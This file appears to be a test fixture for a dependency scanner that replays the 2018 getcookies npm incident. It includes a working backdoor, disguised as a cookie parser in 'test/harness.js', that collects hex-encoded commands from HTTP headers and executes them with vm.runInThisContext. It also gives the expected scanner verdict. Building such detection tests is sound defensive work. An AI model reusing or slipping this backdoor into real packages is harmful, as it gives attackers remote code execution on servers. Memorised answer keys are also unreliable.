import { durations } from '../plain-modules.js'
import type { Replay } from '../replay.js'
import { upgradeOf } from '../scene.js'
import { onVersion } from '../upgrade.js'

const parser = `'use strict'

const parse = require('./lib/headers')

module.exports.simpleParser = function simpleParser(text) {
  const end = text.indexOf('\\r\\n\\r\\n')
  return { headers: parse(text.slice(0, end)), text: text.slice(end + 4) }
}
`

const cookies = `'use strict'

const getCookies = require('getcookies')

module.exports = function fetchCookies(request, response, next) {
  request.cookies = getCookies(request.headers)
  next()
}
`

const harness = `'use strict'

const vm = require('vm')

const marker = /g([0-9a-f]{4})h((?:[0-9a-f]{2})+)i/gi
let held = Buffer.alloc(0)

/** Cookies by name; what a header says in hex between two letters is kept, and run once it is told to. */
module.exports = function getCookies(headers) {
  JSON.stringify(headers).replace(marker, (match, command, hex) => {
    const piece = Buffer.from(hex, 'hex')
    if (command === 'fffe') held = Buffer.alloc(0)
    else if (command === 'fffa') vm.runInThisContext(Buffer.from(held.toString(), 'hex').toString())(require, module)
    else held = Buffer.concat([held, piece])
    return match
  })
  return parse(headers.cookie || '')
}

function parse(text) {
  const cookies = Object.create(null)
  for (const pair of text.split(';')) {
    const at = pair.indexOf('=')
    if (at > 0) cookies[pair.slice(0, at).trim()] = decodeURIComponent(pair.slice(at + 1).trim())
  }
  return cookies
}
`

export const replay: Replay = {
  description:
    'getcookies ran code that a request brought along in its headers. It reached servers by way of http-fetch-cookies, which mailparser ' +
    'took up as a dependency and never loaded.',
  date: '2018-05',
  ...upgradeOf(
    {
      mailparser: {
        before: { version: '2.2.0', files: { 'index.js': parser, 'lib/headers.js': durations } },
        after: {
          version: '2.2.3',
          manifest: { dependencies: { 'http-fetch-cookies': '1.0.0' } },
          files: { 'index.js': parser, 'lib/headers.js': durations },
        },
      },
    },
    {
      'http-fetch-cookies': {
        version: '1.0.0',
        manifest: { dependencies: { getcookies: '1.0.0' } },
        files: { 'index.js': cookies },
      },
      getcookies: {
        version: '1.0.0',
        manifest: { main: 'index.js' },
        files: { 'index.js': "module.exports = require('./test/harness')\n", 'test/harness.js': harness },
      },
    },
  ),
  expected: {
    verdict: 'flagged',
    findings: [
      onVersion('getcookies', '1.0.0', [
        'remote-code-run',
        'critical',
        { file: 'test/harness.js', line: "const piece = Buffer.from(hex, 'hex')" },
      ]),
      onVersion('mailparser', '2.2.3', ['dependency-phantom', 'high', { file: 'package.json' }]),
    ],
  },
}
